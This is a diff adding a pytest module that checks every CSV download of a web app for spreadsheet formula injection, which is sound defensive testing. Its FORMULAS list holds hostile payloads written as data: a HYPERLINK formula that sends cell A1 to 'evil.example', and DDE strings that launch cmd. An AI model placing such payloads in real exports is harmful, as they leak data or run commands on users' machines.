@@ -1,0 +1,96 @@
+"""Every CSV file a supervisor can download is safe to open in a spreadsheet: no cell starts
+a formula, whichever value (clientId, data, note, number) carried one. One writer makes them
+all (app/services/csv_files.py); a new CSV download needs a case here."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from app.extensions import db
+from app.models import IntakeLoad
+from tests.dnc.dnc_support import put
+from tests.intake.conftest import csv_text
+from tests.ui.conftest import add_task, submit
+
+ROOT = Path(__file__).resolve().parents[2]
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0"]
+STARTS_A_FORMULA = tuple("=+-@\t\r")
+
+
+@pytest.fixture
+def app(app, tmp_path):
+    app.instance_path = str(tmp_path / "instance")  # where loads keep their files
+    return app
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def download(client, url: str) -> str:
+    response = client.get(url)
+    try:
+        assert response.status_code == 200, (url, response.status_code)
+        assert response.mimetype == "text/csv"
+        return response.get_data(as_text=True)
+    finally:
+        response.close()
+
+
+def campaign_export(client, acme, renewals) -> str:
+    for number, formula in enumerate(FORMULAS):
+        add_task(renewals, formula, {"Name": formula, f"Note {number}": formula})
+    return download(client, f"/tenants/{acme.id}/campaigns/{renewals.id}/export.csv")
+
+
+def intake_report(client, acme, renewals) -> str:
+    """An upload whose every row is refused (a phone number that is not one), each row's
+    clientId a formula: the report names them all."""
+    rows = [["Id", "Mobile Phone"], *([formula, "555"] for formula in FORMULAS)]
+    content = io.BytesIO(csv_text(rows).encode())
+    url = f"/tenants/{acme.id}/campaigns/{renewals.id}"
+    assert submit(client, url, "/intake", {"file": (content, "tasks.csv")}).status_code == 302
+    load = db.session.scalar(select(IntakeLoad))
+    assert load.finished
+    return download(client, f"/tenants/{acme.id}/loads/{load.id}/report.csv")
+
+
+def dnc_export(client, acme, renewals) -> str:
+    for number, formula in enumerate(FORMULAS):
+        put(acme, f"+1415555010{number}", note=formula)
+    return download(client, f"/tenants/{acme.id}/dnc/export.csv")
+
+
+DOWNLOADS = {
+    "admin.export_campaign": campaign_export,
+    "admin.intake_report": intake_report,
+    "admin.dnc_export": dnc_export,
+}
+
+
+def test_every_csv_download_of_the_app_is_checked_here(app):
+    offered = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+    assert offered == set(DOWNLOADS)
+
+
+@pytest.mark.parametrize("endpoint", sorted(DOWNLOADS))
+def test_no_cell_of_a_csv_download_starts_a_formula(signed_in, acme, renewals, endpoint):
+    written = cells(DOWNLOADS[endpoint](signed_in, acme, renewals))
+    assert [cell for cell in written if cell.startswith(STARTS_A_FORMULA)] == []
+    for formula in FORMULAS:  # each value is there, guarded
+        assert "'" + formula in written, (endpoint, formula)
+
+
+def test_one_writer_makes_every_csv_file():
+    writers = [
+        str(path.relative_to(ROOT))
+        for path in sorted((ROOT / "app").rglob("*.py"))
+        if "csv.writer(" in path.read_text()
+    ]
+    assert writers == ["app/services/csv_files.py"]
